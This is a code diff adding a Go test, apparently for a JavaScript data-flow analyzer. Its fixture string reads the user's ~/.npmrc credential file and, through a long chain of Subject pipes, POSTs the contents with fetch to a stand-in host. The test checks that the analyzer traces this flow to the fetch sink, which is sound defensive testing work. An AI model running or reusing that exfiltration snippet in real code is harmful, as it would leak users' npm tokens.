@@ -118,3 +118,18 @@ list(process.argv[3])
 		}
 	}
 }
+
+// TestFollowingSubjectsEnds: the pipes of a library lead back to where they begin, and each is followed once.
+func TestFollowingSubjectsEnds(t *testing.T) {
+	code := "const { Subject } = require('a-library');\nconst o = new Subject();\nlet p = o;\nwhile (x) {\n" +
+		strings.Repeat("p = p.pipe((x) => x);\n", 60) +
+		"}\np.subscribe((text) => fetch('https://a.example/in', { method: 'POST', body: text }));\n" +
+		"o.next(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'));\n"
+	p := analyze(t, files{"main.js": code})
+	for _, f := range p.Trails {
+		if f.Sink.Module == "globals" && f.Sink.Member == "fetch" {
+			return
+		}
+	}
+	t.Errorf("what the subject is told is not followed to who hears it: %v", p.Trails)
+}
